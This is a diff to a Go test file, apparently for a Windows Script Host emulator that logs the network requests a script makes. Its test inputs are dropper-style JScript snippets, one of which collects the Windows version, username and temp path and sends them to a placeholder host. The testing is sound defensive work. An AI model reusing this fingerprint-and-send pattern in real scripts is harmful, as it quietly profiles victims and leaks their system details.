@@ -133,7 +133,7 @@ func TestWorld(t *testing.T) {
 			var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
 			x.OPEN("GET", "https://wsh.example/?" + [typeof document, typeof window, WScript.ScriptName, sh.regread("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName"), sh.Environment("Process")("username"), fso.GetSpecialFolder(2).Path, typeof x.nosuch].join("|"));`, profileWSH,
 			[]want{{"WinHttpRequest.open", "https://wsh.example/?undefined|undefined|invoice_0412.js|Windows 10 Pro|jdoe|C:\\Users\\jdoe\\AppData\\Local\\Temp|undefined", 0, false}}},
-		{"script host quits", `new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://before-quit.example/"); WScript.Quit(1); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://after-quit.example/");`, profileWSH,
+		{"script host quits", `new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://before-quit.example/"); try { WScript.Quit(1); } catch (e) {} new ActiveXObject("MSXML2.XMLHTTP").open("GET", "https://after-quit.example/");`, profileWSH,
 			[]want{{"MSXML2.XMLHTTP.open", "https://before-quit.example/", 0, false}}},
 	}
 	for _, tt := range tests {
